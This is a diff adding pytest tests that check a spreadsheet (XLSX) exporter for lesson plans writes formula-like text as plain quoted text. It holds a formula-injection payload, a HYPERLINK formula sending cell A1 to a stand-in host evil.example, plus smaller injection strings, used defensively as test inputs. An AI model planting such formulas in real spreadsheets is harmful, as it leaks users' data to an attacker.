@@ -1,4 +1,6 @@
 import io
+import re
+import zipfile
 from dataclasses import replace
 
 import pytest
@@ -77,3 +79,42 @@ def test_empty_design_still_has_header_and_total(empty):
     ws = _workbook(empty).worksheets[0]
     assert ws.max_row == 2
     assert ws.cell(2, 1).value == "Total" and ws.cell(2, 8).value == 0
+
+
+HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+
+
+def _raw_sheets(snap) -> str:
+    out = io.BytesIO()
+    get_format("xlsx").write(snap, out, ExportContext(NoAssets()))
+    with zipfile.ZipFile(io.BytesIO(out.getvalue())) as zf:
+        return "".join(zf.read(n).decode() for n in zf.namelist() if "worksheets/" in n)
+
+
+def test_texts_that_start_like_a_formula_are_written_as_text(example):
+    nugget = replace(example.nuggets[0], title=HOSTILE, method="+1", media="-x", url="@SUM(1)")
+    module = replace(example.modules[0], description="\tcmd")
+    snap = replace(
+        example,
+        title="=1+1",
+        nuggets=(nugget, *example.nuggets[1:]),
+        modules=(module, *example.modules[1:]),
+    )
+    wb = _workbook(snap)
+    plan = wb.worksheets[0]
+    row = next(r for r in plan.iter_rows(min_row=2) if r[1].value == HOSTILE)
+    cells = [c for c in row if c.value in (HOSTILE, "+1", "-x", "@SUM(1)")]
+    assert len(cells) == 4
+    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
+    assert wb["Grobkonzept"]["B1"].value == "=1+1" and wb["Grobkonzept"]["B1"].data_type == "s"
+    assert wb["Module"]["C2"].value == "\tcmd" and wb["Module"]["C2"].quotePrefix
+    # The only formulas in the file are the Verlaufsplan's own sum.
+    formulas = re.findall(r"<f>(.*?)</f>", _raw_sheets(snap))
+    assert len(formulas) == 1 and formulas[0].startswith("SUM(")
+
+
+def test_ordinary_texts_and_the_sum_stay_as_they_are(workbook):
+    plan = workbook.worksheets[0]
+    assert not any(c.quotePrefix for row in plan.iter_rows(min_row=2) for c in row)
+    total = plan.max_row
+    assert plan.cell(total, 8).data_type == "f"
